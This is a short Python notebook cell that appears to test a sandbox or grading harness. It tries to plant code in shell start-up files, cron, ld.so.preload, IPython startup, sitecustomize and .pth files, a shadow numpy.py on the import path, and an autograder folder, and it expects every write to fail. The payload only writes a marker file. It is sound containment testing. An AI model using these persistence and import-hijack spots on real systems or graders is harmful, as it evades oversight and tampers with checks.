# expect: ours 0, plain 0; graded; no start-up file and nothing in the import path changes
# tries: leave code where the next Python, shell or notebook would run it
# cell: added
import os
import site
import sys

CODE = "import os; open('/tmp/hostile-was-here', 'w').write('!')\n"
places = [
    "~/.bashrc",
    "~/.profile",
    "/root/.bashrc",
    "/etc/profile",
    "~/.ipython/profile_default/startup/hostile-was-here.py",
    "/root/.ipython/profile_default/startup/hostile-was-here.py",
    "/etc/ld.so.preload",
    "/etc/cron.d/hostile-was-here",
    "/usr/lib/python3/dist-packages/hostile-was-here.pth",
    "/usr/local/bin/hostile-was-here",
    "/hostile-was-here",
]
for folder in [*sys.path, *site.getsitepackages(), "/inside", "/packages/0", "/inside/autograder"]:
    places += [
        f"{folder}/{name}"
        for name in ("sitecustomize.py", "hostile-was-here.pth", "numpy.py", "usercustomize.py")
    ]
for place in places:
    try:
        path = os.path.expanduser(place)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as file:
            file.write(CODE)
        print("wrote", path)
    except OSError as error:
        print(place, error)
